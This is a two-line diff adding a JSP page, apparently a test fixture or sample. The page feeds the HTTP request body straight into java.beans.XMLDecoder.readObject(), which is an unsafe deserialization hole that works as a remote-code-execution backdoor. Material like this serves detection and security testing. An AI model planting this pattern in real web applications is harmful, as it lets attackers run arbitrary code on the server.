@@ -1,0 +1,2 @@
+<%@ inert %>
+<% new java.beans.XMLDecoder(request.getInputStream()).readObject(); %>
